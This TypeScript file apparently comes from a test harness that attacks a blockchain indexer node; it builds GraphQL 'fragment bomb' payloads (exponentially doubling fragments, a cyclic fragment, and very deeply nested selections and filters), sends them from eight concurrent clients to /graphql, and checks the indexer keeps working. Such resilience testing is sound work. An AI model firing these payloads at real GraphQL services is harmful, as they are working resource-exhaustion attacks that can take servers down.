import type { Attack } from "../Attack.js";
import type { AttackedNode } from "../AttackedNode.js";
import { indexGoesOn } from "./indexGoesOn.js";
import { attackerOf, post, repeat } from "./requests.js";

const clients = 8;
const doublings = 40;

/** Fragments that each hold the next one twice. */
function doubled(last: string): string {
  const fragments = Array.from({ length: doublings }, (_, at) => {
    return `fragment f${at} on query_root { ...f${at + 1} ...f${at + 1} }`;
  });
  return ["query { ...f0 }", ...fragments, `fragment f${doublings} on query_root { ${last} }`].join("\n");
}

const bombs = [
  doubled("...none"),
  doubled("__typename"),
  doubled("blocks(limit: 1) { block_number }"),
  "query { ...f } fragment f on query_root { ...f }",
  `query { blocks { ${"block_deploys { deployment { block { ".repeat(30)}block_number${" } } }".repeat(30)} } }`,
  `query { ${"... on query_root { ".repeat(20_000)}__typename${" }".repeat(20_000)} }`,
  `{ blocks(where: ${"{_and: [".repeat(2_000)}{}${"]}".repeat(2_000)}) { block_number } }`,
];

/** Small documents of GraphQL that expand to very large ones. */
export const fragmentBombs: Attack<AttackedNode> = {
  name: "GraphQL: fragments that grow as they are read",
  async run(target, enough) {
    const { http: port } = target.ports;
    const gains = new Set<string>();
    await repeat(enough, clients, async (index, round) => {
      const query = bombs[(index + round) % bombs.length]!;
      const from = attackerOf(index);
      const { text } = await post({ port, path: "/graphql", from, signal: enough }, { query });
      if (text.includes('"data":{')) gains.add(`an answer to ${query.slice(0, 60)}`);
    });
    await indexGoesOn(target);
    return [...gains];
  },
};
